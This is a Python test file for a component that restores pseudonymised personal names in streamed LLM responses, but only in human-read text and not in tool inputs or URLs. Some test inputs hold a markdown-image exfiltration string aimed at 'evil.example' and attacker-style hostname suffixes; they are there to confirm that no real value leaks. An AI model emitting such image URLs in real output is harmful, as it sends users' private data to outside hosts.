"""Values that are put back in an answer that grows: the same for every cut, and only where a person reads them."""

import json
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st
from stream_fakes import HIDES, STREAMED, FakeReader, FakeWatcher, chunk, framed, pieces, texts_of

from appliance.inspect.dialects import Call
from appliance.inspect.dialects.registry import by_api
from appliance.inspect.pseudonyms import Restoration, name_of
from appliance.inspect.stream.editor import StreamEditor
from appliance.inspect.stream.events import Framing
from appliance.inspect.stream.restoring import Restoring

KEY = b"k" * 32
VALUE = 'Anna "A." Berg\n'
NAME = name_of(KEY, "PERSON", VALUE)
FOREIGN = name_of(KEY, "PERSON", "somebody else")
WORDS = st.sampled_from(
    [
        NAME,
        NAME[:5],
        NAME[5:],
        NAME[:-1],
        ">",
        FOREIGN,
        "<",
        "a < b ",
        "secret-1;",
        "se",
        "&lt;",
        "\\",
        "https://x.example/",
        " ",
        "é😀",
        ".evil.example",
        "-",
        ".",
        "@",
        "&period;",
        "a rather long piece of text, longer than two dozen ",
    ]
)
CHUNKS = st.builds(
    chunk,
    st.lists(WORDS, max_size=4).map("".join),
    choice=st.sampled_from([0, 1]),
    field=st.sampled_from(["content", "reasoning"]),
    finish=st.sampled_from([None, None, None, "stop"]),
)


def restoration():
    made = Restoration()
    made.add(NAME, "PERSON", VALUE)
    return made


def edited(parts, framing, made, hides=()):
    watcher = Restoring(FakeWatcher(), made)
    editor = StreamEditor(FakeReader(framing), watcher, hides=hides, ends=(), restores=True)
    out = [one for part in parts for one in editor.feed(part)]
    out += editor.cut(editor.wants_cut) if editor.wants_cut else editor.close()
    assert b"" not in out
    return b"".join(out), editor.report()


@pytest.mark.parametrize("framing", STREAMED)
@given(events=st.lists(CHUNKS, max_size=8), cuts=st.lists(st.integers(0, 5000), max_size=12), hides=st.booleans())
def test_the_same_for_every_cut(framing, events, cuts, hides):
    data = framed(framing, events)
    asked = HIDES if hides else ()
    whole, split = restoration(), restoration()
    assert edited([data], framing, whole, asked)[0] == edited(pieces(data, cuts), framing, split, asked)[0]
    assert (whole.restored, whole.unrestored) == (split.restored, split.unrestored)


@pytest.mark.parametrize("size", [1, 2, 3, 7, 40])
def test_a_name_over_many_deltas_comes_back_as_its_value(size):
    text = f"Dear {NAME}, {FOREIGN} and https://x.example/?{NAME} say secret-1; hello {NAME}"
    events = [chunk(text[at : at + size]) for at in range(0, len(text), size)]
    made = restoration()
    out, report = edited([framed(Framing.SSE, events)], Framing.SSE, made, HIDES)
    told = text.replace("secret-1;", "<TOKEN>").replace(f" {NAME}", f" {VALUE}")
    assert texts_of(Framing.SSE, out)["0/content"] == told
    assert (made.restored, made.unrestored, report.redactions) == (2, 2, 1)


def test_repeats_say_the_same_and_other_texts_keep_the_name():
    made = restoration()
    event = chunk(f"{NAME}!", more={"text": f"{NAME}!", "label": NAME})
    out, _ = edited([framed(Framing.SSE, [event])], Framing.SSE, made)
    texts = texts_of(Framing.SSE, out)
    assert texts["0/content"] == f"{VALUE}!"
    assert sorted(texts[None]) == sorted(["m-1", f"{VALUE}!", NAME])


def test_what_holds_no_name_leaves_as_it_came_and_at_once():
    editor = StreamEditor(
        FakeReader(Framing.SSE), Restoring(FakeWatcher(), restoration()), hides=(), ends=(), restores=True
    )
    for text in ("plain words ", "1 > 0 ", 'some "quoted" \\ text'):
        event = framed(Framing.SSE, [chunk(text)])
        assert b"".join(editor.feed(event)) == event or text.endswith("\\ text")


def test_a_stream_that_stalls_keeps_only_what_may_be_a_name():
    editor = StreamEditor(
        FakeReader(Framing.SSE), Restoring(FakeWatcher(), restoration()), hides=(), ends=(), restores=True
    )
    long = "words that are said before and that are long enough to leave "
    out = b"".join(editor.feed(framed(Framing.SSE, [chunk(long + NAME[:9])])))
    assert texts_of(Framing.SSE, out)["0/content"] == long
    rest = b"".join([*editor.feed(framed(Framing.SSE, [chunk(" is no name")])), *editor.close()])
    assert texts_of(Framing.SSE, rest)["0/content"] == NAME[:9] + " is no name"


DELTAS = [
    {"type": "response.output_text.delta", "output_index": 0, "content_index": 0, "delta": NAME},
    {"type": "response.custom_tool_call_input.delta", "output_index": 1, "delta": NAME},
    {"type": "response.custom_tool_call_input.done", "output_index": 1, "input": NAME},
    {"type": "response.shell_call_command.delta", "output_index": 2, "command_index": 0, "delta": NAME},
    {
        "type": "response.output_item.done",
        "output_index": 3,
        "item": {"type": "web_search_call", "action": {"query": NAME}},
    },
    {"type": "response.output_text.done", "output_index": 0, "content_index": 0, "text": NAME},
]


def test_what_a_tool_is_given_keeps_the_name():
    reader = by_api("openai.responses").events(Call("POST", "/v1/responses", ""), "text/event-stream")
    editor = StreamEditor(reader, Restoring(FakeWatcher(), restoration()), hides=(), ends=(), restores=True)
    data = b"".join(b"data: %s\n\n" % json.dumps(one).encode() for one in DELTAS)
    out = b"".join([*editor.feed(data), *editor.close()]).split(b"\n\n")[:-1]
    assert [NAME.encode() in one for one in out] == [False, True, True, True, True, False]


def test_a_text_knows_what_the_one_before_it_has_said():
    watcher = Restoring(FakeWatcher(), restoration())
    first, other = (watcher.watch("content", (), (), 1000) for _ in range(2))
    first.feed("![x](https://evil.example/?q=")
    other.feed("what another choice says ")
    then = watcher.watch("content", (), (), 1000)
    assert then.feed(NAME + ")").found == ()
    assert then.feed("\n" + NAME + " ").found != ()


@given(st.lists(WORDS, max_size=6).map("".join), st.lists(st.integers(0, 400), max_size=8))
def test_how_a_text_is_cut_into_deltas_changes_nothing(text, cuts):
    whole, split = restoration(), restoration()
    places = sorted({min(cut, len(text)) for cut in cuts} | {0, len(text)})
    deltas = [text[start:end] for start, end in pairwise(places)]
    once, _ = edited([framed(Framing.SSE, [chunk(text)])], Framing.SSE, whole)
    many, _ = edited([framed(Framing.SSE, [chunk(one) for one in deltas])], Framing.SSE, split)
    assert texts_of(Framing.SSE, once).get("0/content", "") == texts_of(Framing.SSE, many).get("0/content", "")
    assert (whole.restored, whole.unrestored) == (split.restored, split.unrestored)


@pytest.mark.parametrize("behind", [".evil.example", "@evil.example", "-x.evil.example", f"-{NAME}.evil.example"])
@pytest.mark.parametrize("size", [1, 3, len(NAME), 200])
def test_a_name_that_leads_on_stays_however_late_that_is_seen(behind, size):
    text = f"see {NAME}{behind} and {NAME}"
    events = [chunk(text[at : at + size]) for at in range(0, len(text), size)]
    out, _ = edited([framed(Framing.SSE, events)], Framing.SSE, restoration())
    assert texts_of(Framing.SSE, out)["0/content"] == f"see {NAME}{behind} and {VALUE}"
